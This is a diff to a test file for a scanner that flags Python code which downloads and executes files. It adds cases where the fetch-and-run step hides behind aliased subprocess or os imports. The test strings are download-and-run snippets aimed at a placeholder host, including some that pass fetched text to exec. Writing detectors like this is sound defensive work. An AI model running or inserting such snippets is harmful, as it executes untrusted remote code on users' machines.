@@ -119,6 +119,8 @@ describe('a download run through the module\'s own functions and imported names'
     ['requests imported as r, the response written and run', 'import requests as r, subprocess\nd = r.get("http://e.test/a").content\nopen("/tmp/a", "wb").write(d)\nsubprocess.Popen(["/tmp/a"])\n'],
     ['requests imported as r, the text handed to exec', 'import requests as r\nexec(r.get("http://e.test/a").text)\n'],
     ['requests.get imported by name, handed to exec', 'from requests import get\nexec(get("http://e.test/a").text)\n'],
+    ['subprocess imported under another name', 'import subprocess as _s, urllib.request\nurllib.request.urlretrieve("http://e.test/a", "/tmp/a")\n_s.Popen(["/tmp/a"])\n'],
+    ['os imported under another name, startfile', 'import os as _o\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a", "a.exe")\n_o.startfile("a.exe")\n'],
   ])('%s: download-and-run', (_name, text) => {
     expect(readImportCode(text).flags).toEqual(['download-and-run']);
   });
@@ -126,6 +128,7 @@ describe('a download run through the module\'s own functions and imported names'
   it.each([
     ['a setup.py helper downloading a data file that is only read', 'import json, subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/data.json", "data.json")\nsubprocess.check_call(["tar", "xf", "data.json"])\nwith open("data.json") as f:\n    DATA = json.load(f)\n'],
     ['a helper\'s parameter saved, another program run', 'import subprocess\nfrom urllib.request import urlretrieve\ndef fetch(url, dest):\n    urlretrieve(url, dest)\n\nfetch("http://e.test/a.tgz", "a.tgz")\nsubprocess.check_call(["./configure"])\n'],
+    ['subprocess under another name running a fixed tool', 'import subprocess as sp\nfrom urllib.request import urlretrieve\nurlretrieve("http://e.test/a.tgz", "a.tgz")\nsp.check_call(["tar", "xzf", "a.tgz"])\n'],
     ['a mode name used for reading', 'import requests, subprocess\nr = requests.get("http://e.test/a")\nmode = "rb"\nf = open("/tmp/a", mode)\nf.write(r.content)\nsubprocess.Popen(["/tmp/a"])\n'],
     ['a function that takes a path and only reads it', 'import sys, subprocess\nimport requests\ndef load(path):\n    with open(path) as f:\n        return f.read()\n\np = "build.py"\nv = load(p)\nr = requests.get("http://e.test/v")\nsubprocess.check_call([sys.executable, p])\n'],
     ['a helper returning a saved archive, unpacked by tar', 'import os, subprocess, urllib.request\ndef fetch(url):\n    p = os.path.join("build", "src.tar.gz")\n    urllib.request.urlretrieve(url, p)\n    return p\n\nx = fetch("http://e.test/a")\nsubprocess.check_call(["tar", "xzf", x])\nsubprocess.check_call(["make"])\n'],
